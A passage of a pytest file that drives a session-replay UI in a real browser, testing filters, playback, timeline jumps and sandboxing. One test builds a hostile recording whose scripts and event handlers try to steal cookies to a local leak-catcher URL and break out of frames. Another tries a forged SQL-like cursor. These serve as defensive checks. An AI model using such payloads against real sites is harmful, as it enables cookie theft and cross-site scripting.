"""The sessions area of the UI, driven as a person would: real Chromium, real uvicorn, real SQLite.

Screenshots of each screen land in tests/artifacts/ui/ (not committed), to look at.
"""

from __future__ import annotations

import json
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import expect
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import Response
from starlette.routing import Route

from collector_helpers import ROOT, TEAM, ThreadServer, click, meta, snapshot, team_cookies, team_get, team_page
from recorder import record
from plumbing.vocabulary import TAG_ANNOTATION, TAG_ROUTE
from plumbing.store import SessionFilter, SessionStore, StoreError
from sessionheat.web import AccessPolicy, create_app
from sessionheat.web.session_timeline import build_timeline

ARTIFACTS = Path(__file__).resolve().parent / "artifacts" / "ui"
T0 = 1_790_000_000_000  # 2026-09-21, a fixed start for synthetic sessions
SECRET_NAME = "Ada Secretname"


def shot(page: Any, name: str) -> None:
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / f"{name}.png"), full_page=True)


def synthetic(t0: int, *, href: str = "http://shop.test/", clicks: int = 1, length_ms: int = 1000,
              annotation: str | None = None) -> list[dict]:
    """A tiny but replayable session: a page, some clicks, an optional annotation."""
    events = [meta(t0, href=href), snapshot(t0 + 1)]
    for i in range(clicks):
        events.append(click(t0 + 10 + i * 100))
    if annotation:
        events.append({"type": 5, "timestamp": t0 + 500,
                       "data": {"tag": TAG_ANNOTATION, "payload": {"name": annotation, "data": {}}}})
    events.append(click(t0 + length_ms))
    return events


@pytest.fixture(scope="module")
def ui(tmp_path_factory: pytest.TempPathFactory, browser: Any, demo_server: Any,
       asset_server: Any) -> Iterator[dict[str, Any]]:
    """A store with two recorded visits and some synthetic sessions, served by the real app."""
    store = SessionStore(tmp_path_factory.mktemp("ui") / "sessions.db")
    ids: dict[str, str] = {}
    with record(demo_server.url_for("index.html", variant="B", banner="none", promo="0"), store=store,
                browser=browser, viewport=(1280, 800), properties={"variant": "B", "plan": "pro"}) as s:
        p = s.page
        p.wait_for_timeout(700)
        p.click('[data-demo-id="nav-pricing"]')
        p.wait_for_url("**/pricing.html*")
        p.wait_for_timeout(700)
        p.click('[data-demo-id="billing-yearly"]')
        p.wait_for_timeout(500)
        s.annotate("checkout-started", {"step": 1})
        p.goto(demo_server.url_for("signup.html"))
        p.fill('[data-demo-id="signup-name"]', SECRET_NAME)
        p.wait_for_timeout(700)
    ids["desktop"] = s.id
    with record(asset_server.url("form.html"), store=store, browser=browser, viewport=(390, 844),
                properties={"variant": "A"}) as s:
        s.page.fill("#email", "someone@example.test")
        s.page.click("#next")
        s.page.wait_for_url("**/second.html")
        s.page.wait_for_timeout(300)
    ids["phone"] = s.id
    # Synthetic sessions: one indexed with a rage click, one indexed with a dead click, one not.
    ids["rage"], _ = store.import_events(synthetic(T0, clicks=4, length_ms=40_000), session_id="synthetic-rage",
                                         properties={"variant": "A", "plan": "free"})
    ids["dead"], _ = store.import_events(synthetic(T0 + 60_000, href="http://shop.test/cart", length_ms=5000),
                                         session_id="synthetic-dead", properties={"variant": "B"})
    ids["plain"], _ = store.import_events(synthetic(T0 + 120_000, annotation="deploy"),
                                          session_id="synthetic-plain", properties={"variant": "C"})
    base = {"pageview": 0, "kind": "click", "node_id": 1, "label": "Buy", "selector": "#buy"}
    store.replace_hits("synthetic-rage", [{**base, "t": 10 + i * 100, "rage": i < 3} for i in range(4)],
                       n_events=store.get_session("synthetic-rage")["n_events"])
    store.replace_hits("synthetic-dead", [{**base, "t": 10, "dead": True}],
                       n_events=store.get_session("synthetic-dead")["n_events"])
    # tools.example: a UI reached by a name other than the loopback (the player-origin test)
    app = create_app(store, access=AccessPolicy.for_listener("127.0.0.1", ["tools.example"]))
    with ThreadServer(app) as server:
        yield {"store": store, "ids": ids, "url": server.url}
    store.close()


def listed_ids(page: Any) -> list[str]:
    return page.locator("table.sessions tbody tr").evaluate_all(
        "rows => rows.map(r => r.dataset.sessionId)")


def apply_filters(page: Any, in_url: str) -> list[str]:
    """Submit the filter form, wait for the list whose URL carries `in_url`, say what it lists."""
    page.get_by_role("button", name="Apply filters").click()
    page.wait_for_url(f"**{in_url}**")
    return listed_ids(page)


def test_filter_the_session_list_with_the_form(ui: dict[str, Any], browser: Any) -> None:
    ids = ui["ids"]
    page = team_page(browser, viewport={"width": 1400, "height": 900})
    try:
        page.goto(ui["url"] + "/")  # the home page is the list
        assert set(listed_ids(page)) == set(ids.values())
        assert page.locator("#result-count").inner_text().startswith("5 sessions")
        shot(page, "sessions-list")
        row = page.locator(f'tr[data-session-id="{ids["plain"]}"]')
        assert "not indexed yet" in row.inner_text()
        assert "3 rage" in page.locator(f'tr[data-session-id="{ids["rage"]}"]').inner_text()
        assert "1 dead" in page.locator(f'tr[data-session-id="{ids["dead"]}"]').inner_text()

        page.get_by_label("URL visited contains").fill("pricing")
        assert apply_filters(page, "url=pricing") == [ids["desktop"]]
        shot(page, "sessions-filtered-url")

        page.get_by_label("URL visited contains").fill("")
        page.get_by_label("Property (key=value)").fill("variant=A")
        assert set(apply_filters(page, "property=variant")) == {ids["phone"], ids["rage"]}

        page.get_by_label("Device").select_option("mobile")
        assert apply_filters(page, "device=mobile") == [ids["phone"]]

        page.goto(ui["url"] + "/sessions")
        page.get_by_label("Viewport").select_option("1280x800")
        page.get_by_label("has rage clicks").check()
        assert apply_filters(page, "rage=1") == [ids["rage"]]

        page.get_by_label("has rage clicks").uncheck()
        page.get_by_label("has dead clicks").check()
        assert apply_filters(page, "dead=1") == [ids["dead"]]

        page.goto(ui["url"] + "/sessions")
        page.get_by_label("Minimum duration (s)").fill("30")
        assert apply_filters(page, "min_duration=30") == [ids["rage"]]

        page.goto(ui["url"] + "/sessions")
        page.get_by_label("Started from").fill("2026-09-21")
        page.get_by_label("to (inclusive)").fill("2026-09-21")
        page.get_by_label("Sort by").select_option("duration")
        page.get_by_label("Order").select_option("asc")
        assert apply_filters(page, "sort=duration") == [ids["plain"], ids["dead"], ids["rage"]]
        shot(page, "sessions-sorted")

        page.goto(ui["url"] + "/sessions?since=yesterday")
        assert "give a date as YYYY-MM-DD" in page.get_by_role("alert").inner_text()
    finally:
        page.close()


LINE_STARTS_JS = """cell => {
    // Where each rendered line of the cell starts: [the character before, the first character].
    const starts = [];
    let top = null, prev = "";
    const walk = document.createTreeWalker(cell, NodeFilter.SHOW_TEXT);
    for (let node = walk.nextNode(); node; node = walk.nextNode()) {
        for (let i = 0; i < node.data.length; i++) {
            const range = document.createRange();
            range.setStart(node, i);
            range.setEnd(node, i + 1);
            const rect = range.getClientRects()[0];
            if (!rect) continue;
            if (top !== null && rect.top > top + 2) starts.push([prev, node.data[i]]);
            if (top === null || rect.top > top + 2) top = rect.top;
            prev = node.data[i];
        }
    }
    return starts;
}"""
LONG_URL = ("http://shop.test/products/category/helpdesk-software/brightdesk-pro-annual-plan/details.html"
            "?utm_source=newsletter&utm_campaign=autumn-sale&ref=partner42")


def test_long_entry_urls_wrap_at_their_separators(browser: Any, store: SessionStore) -> None:
    """A squeezed column with break-all wrapped URLs a letter or two per line."""
    store.import_events(synthetic(T0, href=LONG_URL), session_id="long-url",
                        properties={"variant": "B", "plan": "enterprise", "campaign": "autumn-sale",
                                    "source": "newsletter"})
    with ThreadServer(create_app(store)) as server:
        page = team_page(browser, viewport={"width": 1000, "height": 900})
        try:
            page.goto(server.url + "/sessions")
            cell = page.locator('tr[data-session-id="long-url"] td.url')
            assert cell.get_attribute("title") == LONG_URL
            shown = cell.inner_text().replace("\n", "")
            assert shown.endswith("…") and LONG_URL.startswith(shown[:-1]) and len(shown) > 100, shown
            shot(page, "sessions-long-url")
            starts = cell.evaluate(LINE_STARTS_JS)
            assert starts, "the URL should need more than one line at this width"
            assert all(first in "/?&#" or before in "-/?&#" for before, first in starts), starts
            page.goto(server.url + "/sessions/long-url")
            entry = page.locator("#timeline button[data-kind=pageview] .tl-label")
            shot(page, "session-long-url")
            starts = entry.evaluate(LINE_STARTS_JS)
            assert all(first in "/?&#" or before in "-/?&# " for before, first in starts), starts
        finally:
            page.close()


def test_open_a_session_see_the_player_advance_and_jump_from_the_timeline(ui: dict[str, Any],
                                                                          browser: Any) -> None:
    store, sid = ui["store"], ui["ids"]["desktop"]
    page = team_page(browser, viewport={"width": 1500, "height": 1000})
    try:
        page.goto(ui["url"] + "/sessions")
        with page.expect_navigation():
            page.get_by_role("link", name=sid, exact=True).click()
        assert page.url.endswith(f"/sessions/{sid}"), page.url
        frame = page.locator("#player")
        assert frame.get_attribute("sandbox") == "allow-scripts allow-same-origin"
        page.wait_for_selector("#player[data-ready=true]")
        player = page.frame_locator("#player")
        clock = player.locator(".rr-timeline__time").first
        assert clock.inner_text() == "00:00"
        assert SECRET_NAME not in page.content()  # inputs stay masked
        timeline = page.locator("#timeline")
        assert timeline.get_by_text("Annotation: checkout-started").count() == 1
        assert timeline.locator("[data-kind=input]").count() >= 1
        assert timeline.locator("[data-kind=pageview]").count() == 3
        # Under the player's own progress bar, ours is a strip of the timeline's marks, said so.
        marks = page.locator("#marks")
        expect(marks.locator(".marks-title")).to_have_text("Timeline marks")
        legend = marks.locator(".marks-legend li").all_inner_texts()
        assert {"page", "click", "input", "annotation"} <= {t.strip() for t in legend}, legend
        assert marks.locator("#player-time").count() == 1
        assert marks.locator(".track-mark").count() == timeline.locator("button.tl-entry").count()
        shot(page, "session-page")

        player.locator(".rr-controller__btns button").first.click()  # play
        page.wait_for_function("() => Number(document.getElementById('player-time').dataset.t) > 1000")
        expect(clock).not_to_have_text("00:00")  # the player's own clock moved too
        player.locator(".rr-controller__btns button").first.click()  # pause

        pricing = timeline.locator("button[data-kind=pageview]", has_text="pricing.html")
        t = int(pricing.get_attribute("data-t"))
        pricing.click()
        page.wait_for_function(f"() => document.getElementById('player-time').dataset.t === '{t}'")
        replayed = player.frame_locator(".replayer-wrapper iframe")
        replayed.locator("h1", has_text="Simple, honest pricing").wait_for()
        assert pricing.get_attribute("aria-current") == "true"
        assert f"t={t}" in page.url
        seconds = (t + 1) // 1000  # the player shows the moment plus the 1 ms it asks for
        assert clock.inner_text() == f"{seconds // 60:02d}:{seconds % 60:02d}"
        shot(page, "session-jumped-to-pricing")

        signup = timeline.locator("button[data-kind=pageview]", has_text="signup.html")
        signup.focus()
        page.keyboard.press("Enter")  # the timeline works from the keyboard
        replayed.locator("h1", has_text="Create your Brightdesk account").wait_for()
        assert store.get_session(sid)["n_events"] > 0
    finally:
        page.close()


def test_the_replay_area_says_it_is_loading_until_the_player_is_ready(ui: dict[str, Any],
                                                                      browser: Any) -> None:
    """Parsing a long recording takes seconds: the frame must not sit there blank and grey."""
    sid = ui["ids"]["desktop"]
    held: list[Any] = []
    player_url = re.compile(r".*/sessions/[^/]+/player(\?.*)?$")

    def hold(route: Any) -> None:
        held.append(route)  # answered below, once the indicator has been seen

    page = team_page(browser, viewport={"width": 1500, "height": 1000})
    try:
        page.route(player_url, hold)
        page.goto(f"{ui['url']}/sessions/{sid}", wait_until="domcontentloaded")
        loading = page.locator("#player-loading")
        expect(loading).to_be_visible()
        expect(loading).to_have_text("Loading the replay…")
        assert loading.get_attribute("role") == "status"
        shot(page, "session-loading")
        for _ in range(200):  # the frame's request reaches the handler soon after the page parses
            if held:
                break
            page.wait_for_timeout(50)
        held[0].continue_()
        page.wait_for_selector("#player[data-ready=true]")
        expect(loading).to_be_hidden()
    finally:
        page.close()


def test_t_opens_the_session_at_that_moment(ui: dict[str, Any], browser: Any) -> None:
    store, sid = ui["store"], ui["ids"]["desktop"]
    pricing = next(p for p in store.pageviews(sid) if "pricing" in p["url"])
    t = pricing["t_start"] + 400
    page = team_page(browser, viewport={"width": 1500, "height": 1000})
    try:
        page.goto(f"{ui['url']}/sessions/{sid}?t={t}")
        page.wait_for_selector("#player[data-ready=true]")
        assert page.locator("#player-time").get_attribute("data-t") == str(t)
        player = page.frame_locator("#player")
        player.frame_locator(".replayer-wrapper iframe").locator(
            "h1", has_text="Simple, honest pricing").wait_for()
        seconds = (t + 1) // 1000  # the player shows the moment plus the 1 ms it asks for
        assert player.locator(".rr-timeline__time").first.inner_text() == \
            f"{seconds // 60:02d}:{seconds % 60:02d}"
        shot(page, "session-opened-at-t")
    finally:
        page.close()


def _route(t: int, href: str, kind: str = "push") -> dict:
    return {"type": 5, "timestamp": t, "data": {"tag": TAG_ROUTE, "payload": {"href": href, "kind": kind}}}


def _mutation(t: int) -> dict:
    return {"type": 3, "timestamp": t, "data": {"source": 0, "adds": [], "removes": [], "texts": [],
                                                 "attributes": []}}


def test_timeline_puts_a_route_change_at_its_route_event_and_a_reload_at_its_snapshot() -> None:
    """A pushState has no snapshot of its own: moving it to the next one put every tab of a page
    at the next page's load (and jumping there showed that page)."""
    base = "http://shop.test/product.html"
    events = [meta(T0, href=base), snapshot(T0 + 5), click(T0 + 2450),
              _route(T0 + 2455, base + "?tab=specs"), _mutation(T0 + 2457), click(T0 + 2930),
              _route(T0 + 2932, base + "?tab=reviews"), _mutation(T0 + 2932),
              _route(T0 + 3000, base + "?tab=reviews", kind="replace"),
              meta(T0 + 3590, href="http://shop.test/pricing.html"), snapshot(T0 + 3615), click(T0 + 5000)]
    pageviews = [{"url": u, "t_start": t, "width": 1280, "height": 800} for u, t in
                 ((base, 0), (base + "?tab=specs", 2455), (base + "?tab=reviews", 2932),
                  ("http://shop.test/pricing.html", 3590))]
    got = [(e.label, e.t) for e in build_timeline(events, pageviews) if e.kind == "pageview"]
    assert got == [(f"Page {base}", 5), (f"Page {base}?tab=specs", 2457),
                   (f"Page {base}?tab=reviews", 2932), ("Page http://shop.test/pricing.html", 3615)]
    # A route change whose page never rendered anything stays at its route event.
    quiet = [e for e in events if e["timestamp"] != T0 + 2457]
    got = {e.label: e.t for e in build_timeline(quiet, pageviews) if e.kind == "pageview"}
    assert got[f"Page {base}?tab=specs"] == 2455


def test_a_tab_switch_on_the_timeline_jumps_to_that_tab(browser: Any, demo_server: Any,
                                                       store: SessionStore) -> None:
    """The demo's product tabs change the URL with pushState: each is a pageview of its own, at
    its own moment, and jumping to it shows that tab, not the page loaded after it."""
    with record(demo_server.url_for("product.html"), store=store, browser=browser,
                viewport=(1280, 800)) as s:
        p = s.page
        p.wait_for_timeout(600)
        p.click('[data-demo-id="tab-specs"]')
        p.wait_for_url("**tab=specs")
        p.wait_for_timeout(500)
        p.click('[data-demo-id="tab-reviews"]')
        p.wait_for_url("**tab=reviews")
        p.wait_for_timeout(500)
        p.click('[data-demo-id="nav-pricing"]')
        p.wait_for_url("**/pricing.html*")
        p.wait_for_timeout(500)
    events = store.read_events(s.id).events
    t0 = events[0]["timestamp"]
    routes = {e["data"]["payload"]["href"].split("?")[-1]: e["timestamp"] - t0 for e in events
              if e["type"] == 5 and e["data"]["tag"] == TAG_ROUTE and e["data"]["payload"]["kind"] == "push"}
    pricing_start = next(pv["t_start"] for pv in store.pageviews(s.id) if "pricing" in pv["url"])
    with ThreadServer(create_app(store)) as server:
        page = team_page(browser, viewport={"width": 1500, "height": 1000})
        try:
            page.goto(f"{server.url}/sessions/{s.id}")
            page.wait_for_selector("#player[data-ready=true]")
            timeline = page.locator("#timeline")
            entries = timeline.locator("button[data-kind=pageview]")
            assert entries.count() == 4
            t = {name: int(timeline.locator("button[data-kind=pageview]", has_text=name).get_attribute("data-t"))
                 for name in ("tab=specs", "tab=reviews", "pricing.html")}
            # At their route events (or the DOM change right after), before the next page loads.
            assert routes["tab=specs"] <= t["tab=specs"] <= routes["tab=specs"] + 1000 < pricing_start + 1000
            assert routes["tab=reviews"] <= t["tab=reviews"] <= routes["tab=reviews"] + 1000
            assert t["tab=specs"] < t["tab=reviews"] < pricing_start <= t["pricing.html"]
            replayed = page.frame_locator("#player").frame_locator(".replayer-wrapper iframe")
            for name, other in (("specs", "reviews"), ("reviews", "specs")):
                entry = timeline.locator("button[data-kind=pageview]", has_text=f"tab={name}")
                entry.click()
                page.wait_for_function(
                    f"() => document.getElementById('player-time').dataset.t === '{t['tab=' + name]}'")
                expect(replayed.locator(f"#panel-{name}")).to_be_visible()
                expect(replayed.locator(f"#panel-{other}")).to_be_hidden()
                expect(replayed.locator(f"#tab-{name}")).to_have_attribute("aria-selected", "true")
                assert replayed.locator("h1", has_text="Simple, honest pricing").count() == 0
                expect(entry).to_have_attribute("aria-current", "true")
                shot(page, f"session-tab-{name}")
        finally:
            page.close()


def test_a_paused_moment_shows_animations_finished_in_a_player_that_fits_its_frame(
        browser: Any, demo_server: Any, store: SessionStore) -> None:
    """Paused, rrweb freezes CSS animations where they stand: the demo's images fade in on load,
    so without finishing them the moment shows empty cards. And the player fills its frame."""
    with record(demo_server.url_for("index.html", imgdelay=0, variant="A", banner="none", promo="0"),
                store=store, browser=browser, viewport=(1280, 800)) as s:
        s.page.wait_for_function("() => [...document.querySelectorAll('img.lazy')].every(i => i.complete)")
        s.page.wait_for_timeout(800)
    t = store.pageviews(s.id)[0]["t_start"] + 700
    with ThreadServer(create_app(store)) as server:
        page = team_page(browser, viewport={"width": 1500, "height": 1000})
        try:
            page.goto(f"{server.url}/sessions/{s.id}?t={t}")
            page.wait_for_selector("#player[data-ready=true]")
            replayed = page.frame_locator("#player").frame_locator(".replayer-wrapper iframe")
            faded = replayed.locator("img.lazy.loaded")
            faded.first.wait_for(state="attached")
            opacities = faded.evaluate_all("imgs => imgs.map(i => getComputedStyle(i).opacity)")
            assert opacities and set(opacities) == {"1"}, opacities
            # The player refits when its frame learns its size, which may come after "ready".
            frame_w = page.locator("#player").bounding_box()["width"]
            player_frame = next(f for f in page.frames if "/player" in f.url)
            player_frame.wait_for_function(
                "(w) => document.querySelector('.rr-player').getBoundingClientRect().width > 0.8 * w",
                arg=frame_w, timeout=10_000)
            shot(page, "session-paused-animations")
        finally:
            page.close()


def test_json_download_is_byte_identical_to_export(ui: dict[str, Any], browser: Any,
                                                   tmp_path: Path) -> None:
    store, sid = ui["store"], ui["ids"]["desktop"]
    page = browser.new_page()
    page.context.add_cookies([{"name": name, "value": value, "url": ui["url"]}
                              for name, value in team_cookies(store).items()])
    try:
        page.goto(f"{ui['url']}/sessions/{sid}")
        with page.expect_download() as info:
            page.get_by_role("link", name="Download the rrweb events (JSON)").click()
        downloaded = tmp_path / "download.json"
        info.value.save_as(downloaded)
    finally:
        page.close()
    exported = tmp_path / "export.json"
    subprocess.run([sys.executable, "-m", "sessionheat", "export", sid, "-o", str(exported),
                    "--db", str(store.path)], cwd=ROOT, check=True, capture_output=True, timeout=120)
    assert downloaded.read_bytes() == exported.read_bytes()
    assert any(e["type"] == 4 for e in json.loads(downloaded.read_bytes()))


def test_a_damaged_session_replays_up_to_the_damage_and_says_where(ui: dict[str, Any], browser: Any,
                                                                   store: SessionStore) -> None:
    events = synthetic(T0, href="http://shop.test/a", length_ms=2000)
    second = [meta(T0 + 5000, href="http://shop.test/b"), snapshot(T0 + 5001), click(T0 + 6000)]
    third = [click(T0 + 7000)]
    sid = "damaged-session"
    store.append_chunk(sid, 0, events)
    store.append_chunk(sid, 1, second)
    store.append_chunk(sid, 2, third)
    store.db.conn.execute("DELETE FROM chunks WHERE session_id = ? AND seq = 1", (sid,))
    with ThreadServer(create_app(store)) as server:
        page = team_page(browser, viewport={"width": 1400, "height": 900})
        try:
            page.goto(f"{server.url}/sessions/{sid}")
            notice = page.locator("#damage")
            assert "chunk 1 is missing" in notice.inner_text()
            assert "up to 0:02.0" in notice.inner_text()
            damage = page.locator("#timeline [data-kind=damage]")
            assert "0:02.0" in damage.inner_text()
            after = page.locator("#timeline li", has_text="http://shop.test/b")
            assert "cannot be replayed" in after.inner_text()
            assert after.locator("button").count() == 0
            page.wait_for_selector("#player[data-ready=true]")
            shot(page, "session-damaged")
        finally:
            page.close()


class LeakCatcher:
    """A loopback server that records every request it gets: nothing recorded may reach it."""

    def __init__(self) -> None:
        self.requests: list[str] = []

        async def anything(request: Request) -> Response:
            self.requests.append(str(request.url))
            return Response("", media_type="image/gif")

        self.server = ThreadServer(Starlette(routes=[Route("/{path:path}", anything)]))
        self.url = self.server.url


def hostile_events(t0: int, leak: str) -> list[dict]:
    """A crafted recording (anyone with a site key can send one) whose page tries to break out."""
    payload = (
        "window.__ran = 'script';"
        "try { window.top.__pwned = 'script:' + window.top.document.cookie } catch (e) {}"
        "try { window.parent.document.body.setAttribute('data-pwned', 'script') } catch (e) {}"
        "try { window.top.document.title = 'pwned' } catch (e) {}"
        f"try {{ new Image().src = '{leak}/leak?script=' + encodeURIComponent(document.cookie) }} catch (e) {{}}"
        f"try {{ fetch('{leak}/leak?fetch=1', {{mode: 'no-cors'}}) }} catch (e) {{}}"
    )
    handler = payload.replace("'script", "'handler")
    html = {"type": 2, "tagName": "html", "attributes": {}, "id": 2, "childNodes": [
        {"type": 2, "tagName": "head", "attributes": {}, "id": 3, "childNodes": [
            {"type": 2, "tagName": "script", "attributes": {}, "id": 4, "childNodes": [
                {"type": 3, "textContent": payload, "id": 5}]},
            {"type": 2, "tagName": "meta", "attributes": {"http-equiv": "refresh",
                                                          "content": f"0;url={leak}/leak?meta=1"},
             "id": 13, "childNodes": []},
            {"type": 2, "tagName": "link", "attributes": {"rel": "stylesheet", "href": f"{leak}/leak?css=1"},
             "id": 14, "childNodes": []},
            {"type": 2, "tagName": "base", "attributes": {"href": f"{leak}/"}, "id": 15, "childNodes": []},
        ]},
        {"type": 2, "tagName": "body", "attributes": {"onload": handler}, "id": 6, "childNodes": [
            {"type": 2, "tagName": "h1", "attributes": {"id": "title"}, "id": 7, "childNodes": [
                {"type": 3, "textContent": "Hostile page </script><script>window.top.__pwned='breakout'</script>",
                 "id": 8}]},
            {"type": 2, "tagName": "img", "attributes": {"src": f"{leak}/leak?img=1", "onerror": handler},
             "id": 9, "childNodes": []},
            {"type": 2, "tagName": "button", "attributes": {"onclick": handler, "id": "grab"}, "id": 10,
             "childNodes": [{"type": 3, "textContent": "Grab", "id": 11}]},
            {"type": 2, "tagName": "iframe", "attributes": {"srcdoc": f"<script>{payload}</script>"},
             "id": 12, "childNodes": []},
        ]},
    ]}
    doc = {"type": 0, "childNodes": [html], "id": 1}
    return [
        {"type": 4, "timestamp": t0, "data": {"href": "http://hostile.invalid/page", "width": 1000, "height": 700}},
        {"type": 2, "timestamp": t0 + 1, "data": {"node": doc, "initialOffset": {"left": 0, "top": 0}}},
        {"type": 3, "timestamp": t0 + 500, "data": {"source": 2, "type": 2, "id": 10, "x": 20, "y": 60}},
        {"type": 3, "timestamp": t0 + 2000, "data": {"source": 2, "type": 2, "id": 10, "x": 20, "y": 60}},
    ]


def test_a_recorded_script_cannot_run_in_the_ui_origin(browser: Any, store: SessionStore,
                                                       asset_server: Any) -> None:
    catcher = LeakCatcher()
    try:
        crafted, _ = store.import_events(hostile_events(T0, catcher.url), session_id="hostile-crafted",
                                         properties={"note": "<img src=x onerror=window.__pwned='prop'>"})
        with record(asset_server.url("ui_hostile.html") + f"?leak={catcher.url}", store=store,
                    browser=browser) as s:
            s.page.click("#grab")
            s.page.wait_for_timeout(300)
        recorded = s.id
        catcher.requests.clear()  # the live page may call out while recorded; replays may not
        with ThreadServer(create_app(store)) as server:
            context = browser.new_context(extra_http_headers=TEAM, viewport={"width": 1400, "height": 900})
            context.add_cookies([{"name": "ui_secret", "value": "c00kie-of-the-ui", "url": server.url}])
            try:
                page = context.new_page()
                page.goto(server.url + "/sessions")
                assert page.locator("td.props img").count() == 0  # properties are text
                for sid in (crafted, recorded):
                    page.goto(f"{server.url}/sessions/{sid}")
                    assert "c00kie-of-the-ui" in page.evaluate("document.cookie")  # the UI has it
                    page.wait_for_selector("#player[data-ready=true]")
                    player = page.frame_locator("#player")
                    player.locator(".rr-controller__btns button").first.click()  # play it all
                    page.wait_for_function(
                        "() => Number(document.getElementById('player-time').dataset.t) >="
                        " 0.9 * Number(document.getElementById('player').dataset.duration)")
                    page.wait_for_timeout(300)
                    shot(page, "session-hostile-crafted" if sid == crafted else "session-hostile-recorded")
                    assert page.evaluate("window.__pwned") is None
                    assert page.evaluate("document.body.dataset.pwned") is None
                    assert page.title() != "pwned"
                    ran = []
                    for frame in page.frames:
                        try:
                            ran.append(frame.evaluate("() => window.__ran || null"))
                        except Exception:  # noqa: BLE001 - a frame without scripts may refuse
                            ran.append(None)
                    assert ran == [None] * len(ran), ran
                    # The player lives in an origin of its own: no UI cookie, no way into the UI's DOM.
                    player_frame = next(f for f in page.frames if f.url.startswith("http://sessionheat-player."))
                    assert player_frame.evaluate("origin") != server.url
                    assert "c00kie" not in player_frame.evaluate("document.cookie")
                    assert player_frame.evaluate(
                        "() => { try { return parent.document.title } catch (e) { return 'blocked' } }") == "blocked"
                    # The recording is rebuilt in an iframe where scripts are off.
                    sandbox = player.locator(".replayer-wrapper iframe").get_attribute("sandbox")
                    assert sandbox is not None and "allow-scripts" not in sandbox
                # Opened directly and played to the end, the player document runs nothing recorded.
                page.goto(f"{server.url}/sessions/{crafted}/player")
                page.wait_for_function("() => window.sessionPlayer !== undefined")
                page.evaluate("window.sessionPlayer.goto(2000, false)")
                page.wait_for_timeout(300)
                assert [f.evaluate("() => window.__ran || window.__pwned || null") for f in page.frames] \
                    == [None] * len(page.frames)
            finally:
                context.close()
        assert not [r for r in catcher.requests if "cookie" in r or "c00kie" in r]
        assert catcher.requests == [], catcher.requests
    finally:
        catcher.server.close()


# -- the store's query path (no browser) -------------------------------------------------------


def _summaries(n: int) -> list[dict[str, Any]]:
    return [{"id": f"sess-{i:05d}", "first_ts": T0 + (i // 3) * 1000, "last_ts": T0 + (i // 3) * 1000 + i,
             "duration_ms": i % 7 * 1000, "n_events": i % 11, "device": "desktop", "viewport_w": 1280,
             "viewport_h": 800, "entry_url": "http://shop.test/", "properties": {"k": str(i % 2)}}
            for i in range(n)]


@pytest.mark.parametrize("sort", ["started", "duration", "events"])
@pytest.mark.parametrize("descending", [True, False])
def test_keyset_pages_cover_every_session_once_in_order(store: SessionStore, sort: str,
                                                        descending: bool) -> None:
    store.load_session_summaries(_summaries(230))
    flt = SessionFilter(properties={"k": "1"})
    pages, cursor = [], None
    while True:
        result = store.query_sessions(flt, sort=sort, descending=descending, after=cursor, limit=40)
        pages.append(result)
        cursor = result.next_cursor
        if cursor is None:
            break
    seen = [r["id"] for p in pages for r in p.sessions]
    column = {"started": "first_ts", "duration": "duration_ms", "events": "n_events"}[sort]
    keys = [(r[column], r["id"]) for p in pages for r in p.sessions]
    assert len(seen) == len(set(seen)) == 115
    assert keys == sorted(keys, reverse=descending)
    # Walking back from the last page gives the same pages.
    back = store.query_sessions(flt, sort=sort, descending=descending, before=pages[-1].prev_cursor, limit=40)
    assert [r["id"] for r in back.sessions] == [r["id"] for r in pages[-2].sessions]
    assert store.count_sessions(flt) == (115, True)
    assert store.count_sessions(flt, cap=100) == (101, False)


def test_url_filter_finds_rare_and_common_pages_alike(store: SessionStore) -> None:
    sessions = _summaries(400)
    views = [{"session_id": s["id"], "index": k, "url": url, "ts_start": s["first_ts"] + k, "t_start": k,
              "t_end": k + 1, "width": 1280, "height": 800}
             for i, s in enumerate(sessions)
             for k, url in enumerate(["http://shop.test/", "http://shop.test/rare.html" if i == 7
                                      else f"http://shop.test/p{i % 2}.html"])]
    store.load_session_summaries(sessions, views)
    rare = store.query_sessions(SessionFilter(url="rare.html"))  # 1 of 800 pageviews: from the pageviews
    assert [r["id"] for r in rare.sessions] == ["sess-00007"]
    common = store.query_sessions(SessionFilter(url="/p1.html"), limit=500)  # half: session by session
    assert {r["id"] for r in common.sessions} == {s["id"] for i, s in enumerate(sessions) if i % 2 and i != 7}
    assert store.query_sessions(SessionFilter(url="nowhere")).sessions == []


def test_summaries_need_only_an_id_and_a_start(store: SessionStore) -> None:
    store.load_session_summaries([{"id": "bare-session", "first_ts": T0}])
    assert [r["id"] for r in store.query_sessions().sessions] == ["bare-session"]


def test_a_forged_cursor_is_refused(store: SessionStore, ui: dict[str, Any]) -> None:
    with pytest.raises(StoreError):
        store.query_sessions(after="bm90IGEgY3Vyc29y")
    r = team_get(ui["url"] + "/sessions?after=%27%3Bdrop")
    assert r.status_code == 400 and "not a page cursor" in r.text


def test_player_document_is_sandboxed_and_json_is_escaped(ui: dict[str, Any]) -> None:
    sid = ui["ids"]["plain"]
    r = team_get(f"{ui['url']}/sessions/{sid}/player")
    csp = r.headers["content-security-policy"]
    assert re.search(r"script-src 'nonce-[^']+'(;|$)", csp) and "unsafe-inline' " not in csp.split("script-src")[1].split(";")[0]
    assert "connect-src 'none'" in csp and "frame-ancestors 'self'" in csp and "form-action 'none'" in csp
    assert team_get(f"{ui['url']}/sessions/nope-nope-nope").status_code == 404
    assert team_get(f"{ui['url']}/sessions/nope-nope-nope/events.json").status_code == 404
    assert re.search(r"<script(?![^>]*(nonce|application/json))", r.text) is None
    assert "Annotation: deploy" in team_get(f"{ui['url']}/sessions/{sid}").text
    # A session that has not sent an event yet is not listed, and its page says there is nothing.
    ui["store"].create_session("no-events-yet")
    empty = team_get(f"{ui['url']}/sessions/no-events-yet")
    assert empty.status_code == 200 and "Nothing to replay" in empty.text
    assert "no-events-yet" not in team_get(f"{ui['url']}/sessions").text
    # An indexed session's clicks carry the index's labels and rage / dead flags.
    rage_page = team_get(f"{ui['url']}/sessions/{ui['ids']['rage']}").text
    assert rage_page.count('data-kind="rage"') == 3 and "Click on “Buy”" in rage_page
    assert 'data-kind="dead"' in team_get(f"{ui['url']}/sessions/{ui['ids']['dead']}").text


def test_a_really_indexed_rage_visit_is_found_by_the_filter_and_shows_on_its_timeline(
        browser: Any, demo_server: Any, store: SessionStore) -> None:
    import random as random_module

    from demo import load_journey
    from heatmap import index_session

